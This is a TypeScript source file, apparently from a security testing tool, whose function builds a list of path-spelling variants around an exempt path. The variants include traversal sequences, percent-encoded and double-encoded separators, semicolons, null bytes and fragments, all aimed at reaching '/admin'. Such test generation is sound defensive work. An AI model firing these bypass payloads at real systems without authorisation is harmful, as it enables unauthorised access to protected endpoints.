import { Attack } from './attack';

/** Spellings around an exempt path, to get somewhere else. */
export function spelledPaths(host: string, exempt: string): Attack[] {
  const paths = [
    '/', '/admin', `${exempt}/`, `${exempt}/x`, `${exempt}x`, `${exempt}.`, `${exempt};x`, `${exempt}%20`, `${exempt}%00`, `${exempt}\u00ff`,
    `/${exempt}`, exempt.toUpperCase(), `/x/..${exempt}/../admin`, `${exempt}/../admin`, `${exempt}/..%2fadmin`, `${exempt}%2f..%2fadmin`, `${exempt}%2f%2e%2e%2fadmin`,
    `${exempt}/%2e%2e/admin`, `${exempt}/..;/admin`, `${exempt}/..%3b/admin`, `${exempt}/..%5cadmin`, `${exempt}\\..\\admin`, `${exempt}/..%252fadmin`,
    `${exempt}#/../admin`, `/admin?${exempt}`, `/admin#${exempt}`, `/admin;${exempt}`, `http://${host}${exempt}/../admin`,
  ];
  return paths.map(path => ({ name: `path ${path}`, spell: plain => ({ ...plain, authority: host, path }) }));
}
